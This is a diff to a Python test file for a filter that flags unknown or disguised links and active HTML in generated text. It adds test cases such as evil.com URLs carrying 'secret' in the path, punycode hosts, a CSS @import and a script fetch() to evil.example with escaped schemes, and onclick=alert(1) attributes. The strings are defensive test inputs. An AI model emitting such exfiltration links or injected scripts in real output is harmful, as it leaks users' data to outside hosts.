@@ -28,7 +28,7 @@ CONTEXT = RequestContext("id", 0, link_hosts=frozenset({"listed.example", "*.bel
 KNOWN = KnownLinks(ASKED, CONTEXT, lambda: [SOURCE], "Link to https://portal.example.")
 FINE = [
     "Plain text: nothing at all, 12:30! a < b && c [a.md] Great![a.md#page=2] <b>x</b><br/>",
-    "[a.md]: The plan pays. [1]: 80 % e.g. this",
+    "[a.md]: The plan pays. [1]: 80 % e.g. this, 10.30/11.15 or 1.5:30/2, 2/3?",
     "[x](https://listed.example/p?q=1) [x](https://a.below.example) (https://portal.example/y).",
     "https://asked.example/other, https://intra.example/forms/leave?x=1. https://intra.example/forms",
     "[x](https://www.site.example/a) www.site.example/a https://said.example/a <https://own.example/api/x>",
@@ -51,6 +51,7 @@ MADE_UP = [
     "see WWW.evil.example/x or HTTPS://evil.example",
     "<https://evil.example/x> <javascript:alert(1)>",
     "evil.com/?q=secret and a.evil.com/secret",
+    "evil.com:80/?q=secret and a.evil.com:8080/secret evil.рф/secret evil.xn--p1ai/secret",
     "[x](//evil.example/p) [x](/\\evil.example) [x](\\\\evil.example) [x](evil.com/secret)",
     "[x](/&Tab;/evil.example) [x](&#104;ttps://evil.example) [x](https&colon;//evil.example)",
     "[x](https\\://evil.example) https:\\/\\/evil.example",
@@ -81,11 +82,12 @@ MADE_UP = [
     "[x](https://listed.example/a{https://evil.example/s [x](/a!https://evil.example/s [x](listed.example/a!evil.com/s",
     "<b <https://evil.example/x> onclick=alert(1)> <b " + "a " * 130 + " onclick=alert(1)>",
     "//listed.example/a_https://evil.example/s https://listed.example/p.png)https://listed.example:x@evil.example/s",
+    r"""<style>@import "\68ttps://evil.example/s"</style> <SCRIPT >fetch('\x68ttps://evil.example/s')</SCRIPT>""",
     f"[x](https://evil.example/{'a' * 3 * LONGEST_HELD}) ![{'a' * 3 * LONGEST_HELD}](a.png)",
 ]
 _NAMES = ("listed", "asked", "said", "intra", "portal", "own", "a.below", "www.site")
 HOSTS = {"", *(f"{name}.example" for name in _NAMES)}
-BARE = ("evil.com", "evil.web", "evil.coop", "a.pn")
+BARE = ("evil.com", "evil.web", "evil.coop", "evil.xn--p1ai", "a.pn")
 """Hosts without a path: a name that stands in a text may stay."""
 _FETCHING = ("background", "data", "poster", "src", "srcdoc", "srcset", "style")
 """Attributes for which a page fetches something at once; without one an image is no image."""
@@ -101,9 +103,11 @@ class _Shown(HTMLParser):
 
     @override
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in ("script", "style"):
+            self.led.append(f"<{tag}>")
         for name, value in attrs:
             url = urlsplit(f"{value}" if name == "href" and "[.]" not in f"{value}" else "")
-            is_known = url.netloc in HOSTS or (url.netloc.endswith(BARE) and url[2:] == ("", "", ""))
+            is_known = url.netloc in HOSTS or ((url.hostname or "").endswith(BARE) and url[2:] == ("", "", ""))
             leads = url.scheme not in ("", "http", "https", "mailto") or not is_known
             fetches = name in _FETCHING or (name.endswith("href") and tag != "a")
             acts = name.startswith("on") and name.isalpha() and value
